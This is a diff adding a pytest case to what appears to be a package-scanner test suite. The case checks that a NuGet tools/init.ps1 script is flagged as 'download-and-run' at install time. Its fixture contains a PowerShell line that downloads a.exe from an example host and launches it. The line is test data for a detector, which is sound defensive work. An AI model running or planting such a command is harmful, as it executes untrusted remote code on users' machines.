@@ -68,3 +68,15 @@ def test_modules_of_an_archive_run_when_it_is_loaded_from(line: str, phase: str)
     found = settled(take(entries, sides.recipe(code=True), readers.ALL), project=False)
     told = [one for one in found if isinstance(one, Capability) and one.name == "download-and-run"]
     assert [one.phase for one in told] == [phase]
+
+
+@pytest.mark.parametrize(("beside", "phase"), [("left.nuspec", "install"), ("left.txt", "call")])
+def test_a_script_that_nuget_runs_is_run_at_installation(beside: str, phase: str) -> None:
+    text = "Invoke-WebRequest https://files.example/a.exe -OutFile a.exe; Start-Process a.exe\n"
+    entries = [
+        Entry(path=beside, read=lambda: iter([b"<package/>"])),
+        Entry(path="tools/init.ps1", read=lambda: iter([text.encode()])),
+    ]
+    found = settled(take(entries, sides.recipe(code=True), readers.ALL), project=False)
+    told = [one for one in found if isinstance(one, Capability) and one.name == "download-and-run"]
+    assert {one.phase for one in told} == {phase}
